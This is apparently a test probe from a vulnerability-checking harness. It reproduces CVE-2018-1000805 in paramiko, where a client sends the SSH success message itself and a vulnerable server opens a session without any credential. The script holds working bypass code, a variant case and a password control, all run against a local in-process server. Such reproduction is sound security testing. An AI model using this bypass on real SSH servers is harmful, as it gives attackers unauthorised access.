# /// vertice-probe
# id = "PYSEC-2018-69"
# aliases = ["CVE-2018-1000805", "GHSA-f2j6-wrhh-v25m"]
# package = "paramiko"
# summary = "An SSH server obeys messages only a server may send, so a client declares itself authenticated."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.0/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-863"]
# kind = "auth-bypass"
# symbols = [
#   "paramiko.ServerInterface",
#   "paramiko.Transport.start_server",
#   "paramiko.server.ServerInterface",
#   "paramiko.auth_handler.AuthHandler",
# ]
#
# [[affected]]
# package = "paramiko"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "1.5.1" }, { fixed = "2.0.9" }] }]
#
# [cases]
# attack = "a client that sends the success message itself gets a session from a server that accepts nobody"
# [cases.variants]
# after_failure = "the same message after a password was refused"
# [cases.controls]
# password = "the right password opens a session, a wrong one does not"
#
# [test]
# vulnerable = "2.0.8"
# fixed = "2.0.9"
# with = ["cryptography<37"]
# ///
"""CVE-2018-1000805: a client's USERAUTH_SUCCESS authenticates it to the server."""

import collections
import collections.abc
import json
import logging
import socket
import sys
import threading
import time
import warnings

warnings.simplefilter("ignore")
if not hasattr(collections, "MutableMapping"):  # these releases look for it where it was until Python 3.9
    collections.MutableMapping = collections.abc.MutableMapping


def connect():
    """(client transport, server transport, names of what the server was asked) over a socket pair."""
    import paramiko

    logging.getLogger("paramiko").addHandler(logging.NullHandler())
    asked = []

    class Server(paramiko.ServerInterface):
        def get_allowed_auths(self, username):
            return "password"

        def check_auth_none(self, username):
            return paramiko.AUTH_FAILED

        def check_auth_password(self, username, password):
            asked.append("password")
            return paramiko.AUTH_SUCCESSFUL if password == "right" else paramiko.AUTH_FAILED

        def check_channel_request(self, kind, chanid):
            asked.append("channel")
            return paramiko.OPEN_SUCCEEDED

    near, far = socket.socketpair()
    server = paramiko.Transport(far)
    server.add_server_key(paramiko.RSAKey.generate(1024))
    server.start_server(event=threading.Event(), server=Server())
    client = paramiko.Transport(near)
    client.start_client()
    return client, server, asked


def declare_success(client, request_service):
    from paramiko.common import cMSG_SERVICE_REQUEST, cMSG_USERAUTH_SUCCESS
    from paramiko.message import Message

    if request_service:
        request = Message()
        request.add_byte(cMSG_SERVICE_REQUEST)
        request.add_string("ssh-userauth")
        client._send_message(request)
    success = Message()
    success.add_byte(cMSG_USERAUTH_SUCCESS)
    client._send_message(success)


def refused(client, password):
    import paramiko

    try:
        client.auth_password("bob", password, fallback=False)
    except paramiko.AuthenticationException:
        return True
    return False


def look(client, server, asked):
    for _ in range(20):
        if server.is_authenticated():
            break
        time.sleep(0.05)
    if server.is_authenticated():
        client.open_session()
        if "channel" in asked:
            return "exploited", "the server opened a session without a credential"
        return "error", "authenticated, but no session was asked of the server"
    before = asked.count("password")
    if not server.is_active() or not refused(client, "wrong") or asked.count("password") != before + 1:
        return "error", "the server did not go on to ask for a password"
    return "blocked", "the server stayed unauthenticated and went on to ask for a password"


class Silent(object):
    """Takes the server's answer to the service request without starting an authentication."""

    _handler_table = {6: lambda self, message: None}  # SSH_MSG_SERVICE_ACCEPT

    def is_authenticated(self):
        return False

    def abort(self):
        pass


def attack():
    client, server, asked = connect()
    client.auth_handler = Silent()
    declare_success(client, request_service=True)
    return look(client, server, asked)


def after_failure():
    client, server, asked = connect()
    if not refused(client, "wrong") or asked != ["password"]:
        return "error", "the server did not refuse the wrong password"
    declare_success(client, request_service=False)
    return look(client, server, asked)


def password():
    client, server, asked = connect()
    wrong = refused(client, "wrong")
    client.auth_password("bob", "right", fallback=False)
    client.open_session()
    good = wrong and server.is_authenticated() and asked == ["password", "password", "channel"]
    return ("works", "wrong refused, right accepted") if good else ("broken", repr((wrong, asked)))


CASES = {"attack": attack, "after_failure": after_failure, "password": password}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
